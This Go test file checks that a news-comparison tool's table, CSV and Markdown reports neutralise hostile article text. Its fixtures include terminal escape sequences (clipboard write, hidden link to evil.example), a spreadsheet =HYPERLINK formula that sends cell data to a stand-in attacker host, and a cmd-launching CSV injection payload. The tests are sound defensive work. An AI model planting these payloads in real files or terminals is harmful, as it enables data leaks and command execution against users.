package report

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"github.com/reprint/reprint/article"
)

// controlCodes is text an attacker puts in a scraped page: screen clearing, the
// clipboard (OSC 52), a hidden link (OSC 8), the window title, a carriage
// return, a right-to-left override and a NUL.
const controlCodes = "\x1b[2J\x1b]52;c;ZXZpbA==\x07\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\\x1b]0;title\x07\r\u202e\x00"

// controlReport scans two articles that share a paragraph full of control
// codes, with ids that carry them too and one that is a formula.
func controlReport(t *testing.T) *Report {
	t.Helper()
	body := "The Egyptian Air Force " + controlCodes + " has been carrying out airstrikes in eastern Libya since Friday, officials said."
	return build(t,
		&article.Article{ID: "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")", Published: day("2017-05-29"), Body: body},
		&article.Article{ID: "b\x1b[31m\r", Published: day("2017-06-01"), Body: body + " More."},
	)
}

// controls lists the control and bidi characters left in s, a line break allowed.
func controls(s string) []rune {
	var out []rune
	for _, r := range s {
		if r < 0x20 && r != '\n' || r == 0x7f || r >= 0x80 && r < 0xa0 || r >= 0x202a && r <= 0x202e {
			out = append(out, r)
		}
	}
	return out
}

func TestHostileTable(t *testing.T) {
	r := controlReport(t)
	for i := range r.Articles { // titles and sources are shown beside the ids
		r.Articles[i].Title, r.Articles[i].Source = "Title "+controlCodes, "Source "+controlCodes
	}
	for _, color := range []bool{false, true} {
		var buf bytes.Buffer
		if err := r.WriteTable(&buf, Style{Width: 100, Color: color}); err != nil {
			t.Fatal(err)
		}
		out := buf.String()
		if !strings.Contains(out, `\x1b[2J`) || !strings.Contains(out, `\u202e`) {
			t.Errorf("color %v: the escapes are not shown visibly:\n%s", color, out)
		}
		if !color {
			if c := controls(out); len(c) > 0 {
				t.Errorf("table without colour holds control characters %q", c)
			}
			continue
		}
		// With colour, the only escapes are SGR colours: ESC [ digits ; m.
		for _, seq := range strings.Split(out, "\x1b")[1:] {
			i := strings.IndexFunc(seq, func(r rune) bool { return !(r == '[' || r == ';' || r >= '0' && r <= '9') })
			if i < 0 || seq[i] != 'm' || !strings.HasPrefix(seq, "[") {
				t.Errorf("an escape that is not a colour: %q", "\x1b"+seq[:min(len(seq), 12)])
			}
		}
		if strings.ContainsAny(out, "\r\x00\x07\u202e") {
			t.Errorf("coloured table holds a raw control character")
		}
	}
}

func TestHostileCSV(t *testing.T) {
	r := controlReport(t)
	r.Articles[0].Title = "@SUM(1+1)*cmd|' /C calc'!A0"
	r.Articles[1].Source = "-2+3"
	r.Partial = append(r.Partial, Partial{Source: Place{Article: r.Articles[0].ID, Paragraph: 1}, Target: Place{Article: r.Articles[1].ID, Paragraph: 1},
		Words: 9, Spans: []string{"=1+2 " + controlCodes}})
	for _, table := range CSVTables {
		var buf bytes.Buffer
		if err := r.WriteCSVTable(&buf, table); err != nil {
			t.Fatal(err)
		}
		if c := controls(buf.String()); len(c) > 0 {
			t.Errorf("%s: CSV holds control characters %q", table, c)
		}
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) < 2 {
			t.Fatalf("%s: %d rows", table, len(rows))
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				if cell != "" && strings.IndexByte("=+-@\t\r", cell[0]) >= 0 {
					t.Errorf("%s: column %s holds a formula: %q", table, rows[0][i], cell)
				}
			}
			if col := slices.IndexFunc(rows[0], func(h string) bool { return strings.HasSuffix(h, "article") }); col >= 0 && row[col] != `'=HYPERLINK("http://evil.example/?leak="&A1,"x")` && row[col] != `b\x1b[31m\x0d` {
				t.Errorf("%s: article cell %q", table, row[col])
			}
		}
	}
}

func TestHostileMarkdown(t *testing.T) {
	r := controlReport(t)
	for i := range r.Articles {
		r.Articles[i].Title, r.Articles[i].Source = "Title | "+controlCodes, "Source\n| x |"
	}
	var buf bytes.Buffer
	if err := r.WriteMarkdown(&buf); err != nil {
		t.Fatal(err)
	}
	if c := controls(buf.String()); len(c) > 0 {
		t.Errorf("Markdown holds control characters %q", c)
	}
	// Every table row is one line: a carriage return would end it.
	for _, line := range strings.Split(buf.String(), "\n") {
		if strings.HasPrefix(line, "|") && !strings.HasSuffix(line, "|") {
			t.Errorf("broken table row: %q", line)
		}
	}
}

func TestAnchorsUnique(t *testing.T) {
	ids := []string{"a b", "a_20b", "a_20_b", "a__b", "a_ b", "a _b", "a\u020bb", "_20_", "__", "a.b", "a-b", "a/b", "a%2Fb", "", "_", "___"}
	seen := map[string]string{}
	for _, id := range ids {
		a := anchor(id)
		if other, ok := seen[a]; ok {
			t.Errorf("ids %q and %q share the anchor %q", other, id, a)
		}
		seen[a] = id
		if strings.ContainsFunc(a, func(r rune) bool {
			return !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || r == '-' || r == '_' || r == '.')
		}) {
			t.Errorf("anchor(%q) = %q: not a plain HTML id", id, a)
		}
	}
}

// FuzzAnchor: two different ids never share an anchor.
func FuzzAnchor(f *testing.F) {
	f.Add("a b", "a_20_b")
	f.Add("a_b", "a__b")
	f.Add("_", "__")
	f.Fuzz(func(t *testing.T, a, b string) {
		if a != b && strings.ToValidUTF8(a, "\uFFFD") == a && strings.ToValidUTF8(b, "\uFFFD") == b && anchor(a) == anchor(b) {
			t.Fatalf("ids %q and %q share the anchor %q", a, b, anchor(a))
		}
	})
}
